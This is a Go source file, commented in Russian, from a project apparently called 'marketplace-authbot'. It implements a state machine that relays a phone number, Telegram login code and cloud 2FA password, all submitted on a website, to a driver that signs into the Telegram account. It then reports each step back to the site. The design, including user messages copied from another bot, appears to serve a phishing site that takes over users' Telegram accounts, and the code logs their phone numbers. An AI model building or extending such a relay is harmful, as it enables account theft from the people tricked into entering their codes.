// Оркестратор — машина состояний авторизации. Для каждого входящего запроса
// определяет текущую фазу по хранилищу сессий, зовёт драйвер, обновляет
// хранилище и отчитывается о результате. Переходы:
//
//	нет сессии      --send_phone--> код запрошен        (waiting_code)
//	код запрошен    --send_code---> успех | нужен пароль (success | waiting_password)
//	нужен пароль    --send_password-> успех              (success)
//
// Любой терминальный путь закрывает соединение сессии ровно один раз. Ошибки
// не покидают оркестратор: все они превращаются в статус для сайта.

package authflow

import (
	"context"
	"errors"
	"fmt"
	"time"

	"go.uber.org/zap"

	"marketplace-authbot/internal/domain/phone"
	"marketplace-authbot/internal/infra/logger"
)

// Reporter отправляет статусы обработки обратно на сайт. Доставка
// best-effort: ошибка отправки логируется вызывающим и не влияет на машину
// состояний.
type Reporter interface {
	Report(ctx context.Context, upd StatusUpdate) error
}

// Тексты для пользователя. Формулировки совпадают с ботом, под который
// свёрстан сайт.
const (
	msgCodeSent         = "Код отправлен в Telegram"
	msgPasswordNeeded   = "Требуется облачный пароль"
	msgAuthorized       = "Авторизация успешна!"
	msgAuthorized2FA    = "Авторизация с 2FA успешна!"
	msgInvalidCode      = "Неверный код"
	msgExpiredCode      = "Код истек. Запросите новый."
	msgWrongPassword    = "Неверный пароль. Попробуйте еще раз."
	msgNoSession        = "Сессия не найдена. Начните авторизацию заново."
	msgSessionExpired   = "Сессия истекла. Попробуйте снова."
	msgCodeNotConfirmed = "Сначала подтвердите код из Telegram."
	msgBadRequest       = "Некорректный запрос. Попробуйте снова."
)

// Orchestrator связывает хранилище сессий, драйвер логина и репортёр.
// Конструируется один раз на старте процесса и передаётся поллеру; глобальных
// карт нет, что позволяет изолированно тестировать с подменёнными
// коллабораторами.
type Orchestrator struct {
	store       *Store
	driver      Driver
	reporter    Reporter
	callTimeout time.Duration // ограничивает закрытие хэндлов и отчёты
}

// NewOrchestrator создаёт оркестратор.
func NewOrchestrator(store *Store, driver Driver, reporter Reporter, callTimeout time.Duration) *Orchestrator {
	return &Orchestrator{
		store:       store,
		driver:      driver,
		reporter:    reporter,
		callTimeout: callTimeout,
	}
}

// Handle обрабатывает один запрос очереди до терминального исхода. Ошибки
// валидации и протокола конвертируются в статусы; паника наружу не уходит
// только в виде краха всей программы — recover здесь сознательно нет.
func (o *Orchestrator) Handle(ctx context.Context, req Request) {
	req.Phone = phone.Normalize(req.Phone)

	if err := req.Validate(); err != nil {
		logger.Warn("request failed validation", zap.String("request", req.ID), zap.Error(err))
		o.report(ctx, StatusUpdate{
			RequestID:      req.ID,
			Status:         StatusError,
			ErrorMessage:   msgBadRequest,
			ExternalUserID: req.ExternalUserID,
		})
		return
	}

	logger.Info("processing request",
		zap.String("request", req.ID),
		zap.String("action", string(req.Action)),
		zap.String("phone", req.Phone),
		zap.String("user", req.ExternalUserID),
	)

	switch req.Action {
	case ActionSendPhone:
		o.handlePhone(ctx, req)
	case ActionSendCode:
		o.handleCode(ctx, req)
	case ActionSendPassword:
		o.handlePassword(ctx, req)
	}
}

// handlePhone: нет сессии → код запрошен. Успешный запрос кода создаёт
// сессию; вытесненная при замене сессия закрывается здесь же.
func (o *Orchestrator) handlePhone(ctx context.Context, req Request) {
	handle, codeHash, err := o.driver.RequestCode(ctx, req.Phone)
	if err != nil {
		// Контракт драйвера: при ошибке живого хэндла не остаётся.
		o.reportFailure(ctx, req, req.Phone, err)
		return
	}

	sess := &Session{
		Phone:          req.Phone,
		Handle:         handle,
		CodeHash:       codeHash,
		ExternalUserID: req.ExternalUserID,
		State:          StateCodeRequested,
		CreatedAt:      time.Now(),
	}
	// Замена атомарна; предыдущая сессия по этому номеру (повторное
	// send_phone до завершения флоу) достаётся нам на закрытие.
	if prev := o.store.Put(sess); prev != nil {
		o.closeHandle(prev)
	}

	o.report(ctx, StatusUpdate{
		RequestID:      req.ID,
		Status:         StatusWaitingCode,
		Message:        msgCodeSent,
		Phone:          req.Phone,
		ExternalUserID: req.ExternalUserID,
	})
}

// handleCode: код запрошен → успех | нужен пароль. Неверный или истёкший код
// терминален для сессии: одноразовый код нельзя ввести повторно, нужен новый
// send_phone.
func (o *Orchestrator) handleCode(ctx context.Context, req Request) {
	sess, ok := o.resolveSession(&req)
	if !ok {
		o.report(ctx, StatusUpdate{
			RequestID:      req.ID,
			Status:         StatusError,
			ErrorMessage:   msgSessionExpired,
			Phone:          req.Phone,
			ExternalUserID: req.ExternalUserID,
		})
		return
	}

	outcome, err := o.driver.SubmitCode(ctx, sess.Handle, sess.Phone, sess.CodeHash, req.Code)
	if err != nil {
		switch KindOf(err) {
		case KindInvalidCode:
			o.removeAndClose(sess)
			o.reportError(ctx, req, sess.Phone, msgInvalidCode)
		case KindExpiredCode:
			o.removeAndClose(sess)
			o.reportError(ctx, req, sess.Phone, msgExpiredCode)
		case KindTransient, KindRateLimited:
			// Сессия живёт: код может быть ещё действителен, повтор — за
			// пользователем.
			o.reportError(ctx, req, sess.Phone, userMessage(err))
		default:
			o.removeAndClose(sess)
			o.reportError(ctx, req, sess.Phone, userMessage(err))
		}
		return
	}

	switch outcome {
	case OutcomeSecondFactor:
		if !o.store.SetState(sess, StatePasswordRequired) {
			// Сессию успели вытеснить или заменить между вызовом драйвера и
			// сменой фазы; сессия-замена не трогается.
			o.reportError(ctx, req, sess.Phone, msgSessionExpired)
			return
		}
		o.report(ctx, StatusUpdate{
			RequestID:      req.ID,
			Status:         StatusWaitingPassword,
			Message:        msgPasswordNeeded,
			Phone:          sess.Phone,
			ExternalUserID: req.ExternalUserID,
		})
	default:
		o.removeAndClose(sess)
		o.report(ctx, StatusUpdate{
			RequestID:      req.ID,
			Status:         StatusSuccess,
			Message:        msgAuthorized,
			Phone:          sess.Phone,
			ExternalUserID: req.ExternalUserID,
		})
	}
}

// handlePassword: нужен пароль → успех. Неверный пароль не терминален:
// человек перепечатает его, не перезапуская весь флоу.
func (o *Orchestrator) handlePassword(ctx context.Context, req Request) {
	sess, ok := o.resolveSession(&req)
	if !ok {
		o.report(ctx, StatusUpdate{
			RequestID:      req.ID,
			Status:         StatusError,
			ErrorMessage:   msgNoSession,
			Phone:          req.Phone,
			ExternalUserID: req.ExternalUserID,
		})
		return
	}
	if sess.State != StatePasswordRequired {
		o.reportError(ctx, req, sess.Phone, msgCodeNotConfirmed)
		return
	}

	if err := o.driver.SubmitPassword(ctx, sess.Handle, req.Password); err != nil {
		switch KindOf(err) {
		case KindWrongPassword:
			o.report(ctx, StatusUpdate{
				RequestID:      req.ID,
				Status:         StatusInvalidPassword,
				Message:        msgWrongPassword,
				Phone:          sess.Phone,
				ExternalUserID: req.ExternalUserID,
			})
		case KindTransient, KindRateLimited:
			o.reportError(ctx, req, sess.Phone, userMessage(err))
		default:
			o.removeAndClose(sess)
			o.reportError(ctx, req, sess.Phone, userMessage(err))
		}
		return
	}

	o.removeAndClose(sess)
	o.report(ctx, StatusUpdate{
		RequestID:      req.ID,
		Status:         StatusSuccess,
		Message:        msgAuthorized2FA,
		Phone:          sess.Phone,
		ExternalUserID: req.ExternalUserID,
	})
}

// resolveSession находит сессию по номеру запроса либо, если номера нет, по
// идентификатору пользователя сайта. Найденный номер дописывается в запрос,
// чтобы фигурировать в отчётах.
func (o *Orchestrator) resolveSession(req *Request) (*Session, bool) {
	if req.Phone != "" {
		sess, ok := o.store.Get(req.Phone)
		return sess, ok
	}
	sess, ok := o.store.FindByUser(req.ExternalUserID)
	if ok {
		req.Phone = sess.Phone
		logger.Debug("resolved session by external user id",
			zap.String("user", req.ExternalUserID), zap.String("phone", sess.Phone))
	}
	return sess, ok
}

// removeAndClose атомарно отцепляет сессию и закрывает её соединение. Detach
// сверяет идентичность: если сессию успели заменить, закрывать её хэндл будет
// новый владелец, а не мы. После успешного Detach сессия недостижима для
// других задач и фонового вытеснения, поэтому Close выполняется ровно один
// раз.
func (o *Orchestrator) removeAndClose(sess *Session) {
	if o.store.Detach(sess) {
		o.closeHandle(sess)
	}
}

// closeHandle закрывает соединение сессии с ограниченным таймаутом. Закрытие
// не наследует контекст запроса: терминальная зачистка обязана дойти до конца
// и при отменённом запросе.
func (o *Orchestrator) closeHandle(sess *Session) {
	ctx, cancel := context.WithTimeout(context.Background(), o.callTimeout)
	defer cancel()
	if err := sess.Handle.Close(ctx); err != nil && !errors.Is(err, context.Canceled) {
		logger.Warn("failed to close client handle",
			zap.String("phone", sess.Phone), zap.Error(err))
	}
}

// reportFailure репортит ошибку драйвера на шаге запроса кода.
func (o *Orchestrator) reportFailure(ctx context.Context, req Request, phoneKey string, err error) {
	logger.Error("login step failed",
		zap.String("request", req.ID),
		zap.String("action", string(req.Action)),
		zap.String("phone", phoneKey),
		zap.Error(err),
	)
	o.reportError(ctx, req, phoneKey, userMessage(err))
}

// reportError — сокращение для отчёта с Status=error.
func (o *Orchestrator) reportError(ctx context.Context, req Request, phoneKey, message string) {
	o.report(ctx, StatusUpdate{
		RequestID:      req.ID,
		Status:         StatusError,
		ErrorMessage:   message,
		Phone:          phoneKey,
		ExternalUserID: req.ExternalUserID,
	})
}

// report отправляет статус на сайт. Неудача доставки логируется и
// проглатывается: сайт увидит её как молчаливый таймаут запроса.
func (o *Orchestrator) report(ctx context.Context, upd StatusUpdate) {
	rctx, cancel := context.WithTimeout(ctx, o.callTimeout)
	defer cancel()
	if err := o.reporter.Report(rctx, upd); err != nil {
		logger.Error("failed to push status update",
			zap.String("request", upd.RequestID),
			zap.String("status", string(upd.Status)),
			zap.Error(err),
		)
	}
}

// userMessage переводит FlowError в текст для пользователя. Для rate limit
// указывается предписанная пауза, прочее отдаётся как есть.
func userMessage(err error) string {
	var fe *FlowError
	if errors.As(err, &fe) && fe.Kind == KindRateLimited {
		return fmt.Sprintf("Слишком много попыток. Подождите %d сек.", int(fe.RetryAfter.Seconds()))
	}
	if errors.As(err, &fe) {
		switch fe.Kind {
		case KindTransient:
			return "Сетевая ошибка. Попробуйте еще раз."
		case KindInvalidCode:
			return msgInvalidCode
		case KindExpiredCode:
			return msgExpiredCode
		case KindWrongPassword:
			return msgWrongPassword
		}
	}
	return err.Error()
}
